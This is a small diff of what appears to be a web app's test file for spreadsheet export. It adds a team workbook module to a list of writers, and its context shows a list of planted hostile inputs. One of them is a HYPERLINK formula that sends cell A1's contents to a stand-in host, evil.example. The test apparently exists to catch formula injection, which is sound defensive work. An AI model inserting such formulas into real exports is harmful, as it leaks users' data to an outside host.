@@ -13,7 +13,11 @@ from webapp import ROOT
 from webapp.areas.importing.commands import import_command, report_path
 from webapp.core.ids import new_id
 
-WRITERS = {"webapp/areas/importing/report_workbook.py", "webapp/demo/workbook.py"}
+WRITERS = {
+    "webapp/areas/importing/report_workbook.py",
+    "webapp/demo/workbook.py",
+    "webapp/teams/workbooks.py",
+}
 SHOWN = {"text/html", "text/javascript", "application/json", "application/manifest+json", "image/jpeg"}
 PLANTED = [
     '=HYPERLINK("http://evil.example/?"&A1,"请点")',
